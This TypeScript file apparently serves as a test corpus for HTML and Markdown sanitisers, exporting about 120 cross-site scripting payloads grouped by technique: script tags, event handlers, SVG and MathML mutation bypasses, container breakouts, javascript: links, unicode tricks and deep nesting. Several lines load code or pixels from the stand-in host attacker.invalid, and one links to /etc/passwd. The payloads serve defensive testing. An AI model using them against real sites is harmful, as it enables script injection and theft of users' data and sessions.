/**
 * The corpus: texts that made pages run foreign code, send requests, or look like something else.
 *
 * Each text tries to set `window.__pwned`, to open a dialog, or to fetch from `attacker.invalid`.
 * Many do so in a page that does not escape; the rest need a mistake that real sanitisers have made.
 * Sorted by what they rely on.
 */

const RUN = "window.__pwned=1";
const HOST = "attacker.invalid";

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT >`,
  `<script/x>${RUN}</script/x>`,
  `<script\n>${RUN}</script\n>`,
  `<script src="//${HOST}/x.js"></script>`,
  `<script type="module">import "https://${HOST}/x.js"</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `\u0000<script\u0000>${RUN}</script>`,
  `<script>${RUN}`,
];

const HANDLERS = [
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"`,
  `<img/src="x"/onerror=${RUN}//`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<body onload=${RUN}>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<x tabindex=1 onfocus=${RUN} autofocus id=x>y</x>`,
  `<div style="animation-name:x" onanimationstart="${RUN}">x</div>`,
  `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${RUN}>x</div>`,
];

const FOREIGN = [
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
];

const CONTAINERS = [
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</pre></code></details></article></main><script>${RUN}</script>`,
  `</textarea></noscript></template><img src=x onerror=${RUN}>`,
  `--><script>${RUN}</script><!--`,
  `<!--><script>${RUN}</script>-->`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `]]><script>${RUN}</script>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode="open"><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<plaintext><xmp><listing>`,
];

const LOADERS = [
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  `<embed src="https://${HOST}/x.swf">`,
  `<img src="https://${HOST}/pixel.png">`,
  `<img srcset="https://${HOST}/a.png 1x, https://${HOST}/b.png 2x">`,
  `<link rel=stylesheet href="https://${HOST}/x.css">`,
  `<link rel="preload" as="image" href="https://${HOST}/x.png">`,
  `<link rel="dns-prefetch" href="//${HOST}"><link rel="prefetch" href="https://${HOST}/x">`,
  `<style>@import "https://${HOST}/x.css"; * { background: url(https://${HOST}/x.png) }</style>`,
  `<div style="background:url(https://${HOST}/x.png)">x</div>`,
  `<meta http-equiv="refresh" content="0;url=https://${HOST}/">`,
  `<base href="https://${HOST}/">`,
  `<form action="https://${HOST}/"><button autofocus>x</button></form>`,
  `<video poster="https://${HOST}/x.png"></video>`,
];

const ATTRIBUTES = [
  `" onmouseover="${RUN}`,
  `' onmouseover='${RUN}`,
  "` onmouseover=`window.__pwned=1",
  `" autofocus onfocus="${RUN}" x="`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `x" style="position:fixed;inset:0;background:url(//${HOST}/x)`,
  `&quot; onmouseover=&quot;${RUN}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\u2028" onload="${RUN}\u2029`,
];

const MARKDOWN = [
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](java\tscript:${RUN})`,
  `[x](<java\nscript:${RUN}>)`,
  `[x](java&#10;script:${RUN})`,
  `[x](&#106;avascript:${RUN})`,
  `[x](javascript&colon;${RUN})`,
  `[x](\u0001javascript:${RUN})`,
  `[x]( javascript:${RUN})`,
  `[x](javascript://x%0a${RUN})`,
  `[x](vbscript:msgbox)`,
  `[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)`,
  `[x](file:///etc/passwd) [y](//${HOST}/) [z](\\\\${HOST}\\x)`,
  `[x](https://x.invalid"onmouseover="${RUN})`,
  `[x](https://x.invalid/'onmouseover='${RUN})`,
  `[x](https://good.invalid@${HOST}/)`,
  `[x](https://x.invalid "title" onload="${RUN}")`,
  `[x](https://x.invalid "\\" onmouseover=\\"${RUN}")`,
  `[<img src=x onerror=${RUN}>](https://x.invalid)`,
  `![x](https://${HOST}/pixel.png)`,
  `![x"onerror="${RUN}](https://${HOST}/x.png)`,
  `![x](javascript:${RUN})`,
  `[![x](https://${HOST}/x.png)](javascript:${RUN})`,
  `<javascript:${RUN}>`,
  `<https://x.invalid/"onmouseover="${RUN}>`,
  `[x][1]\n\n[1]: javascript:${RUN}`,
  `[x][1]\n\n[1]: https://x.invalid "\\"><script>${RUN}</script>"`,
  `[__proto__]: javascript:${RUN}\n\n[__proto__] [constructor] [toString]`,
  `\`\`\`"><script>${RUN}</script>\nx\n\`\`\``,
  `\`\`\`html\n</code></pre><script>${RUN}</script>\n\`\`\``,
  `\`<img src=x onerror=${RUN}>\``,
  `|<script>${RUN}</script>|\n|-|\n|<img src=x onerror=${RUN}>|`,
  `# <script>${RUN}</script>\n> <img src=x onerror=${RUN}>\n- <svg onload=${RUN}>`,
  `<div>\n\n**<script>${RUN}</script>**\n\n</div>`,
  `www.x.invalid/"onmouseover="${RUN} a"onload=${RUN}@x.invalid`,
  `1. x\n   <script>${RUN}</script>\n\n      <img src=x onerror=${RUN}>`,
];

const UNICODE = [
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `\u003c\u200bscript>${RUN}</script>`,
  `\ud800<script>${RUN}</script>\udfff`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u202e>tpircs/<${RUN}>tpircs<\u202c`,
  `\u001b]8;;javascript:${RUN}\u0007x\u001b]8;;\u0007<script>${RUN}</script>`,
  `\r<script>${RUN}</script>\r\n\u0085\u000c\u000b`,
  `\ufeff<script>${RUN}</script>\ufffe\uffff`,
];

const NESTED = [
  `${"<div>".repeat(600)}<script>${RUN}</script>`,
  `${"> ".repeat(600)}<script>${RUN}</script>`,
  `${"[".repeat(600)}x](javascript:${RUN})`,
  `${"*".repeat(600)}<img src=x onerror=${RUN}>`,
  `${"<b ".repeat(300)}onmouseover=${RUN}>`,
];

export const XSS_CORPUS: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...FOREIGN,
  ...CONTAINERS,
  ...LOADERS,
  ...ATTRIBUTES,
  ...MARKDOWN,
  ...UNICODE,
  ...NESTED,
];
